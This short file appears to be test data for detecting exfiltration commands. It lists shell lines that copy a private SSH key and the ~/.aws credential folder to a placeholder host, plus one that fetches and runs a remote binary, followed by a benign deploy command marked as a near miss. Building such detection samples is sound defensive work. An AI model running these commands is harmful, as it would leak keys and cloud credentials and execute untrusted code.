scp ~/.ssh/id_rsa drop@a.invalid:/in
rsync -a ~/.aws/ drop@a.invalid:/in
scp a.invalid:run .; ./run
# near misses
scp -i ~/.ssh/deploy_key dist/app.js me@app.invalid:/srv
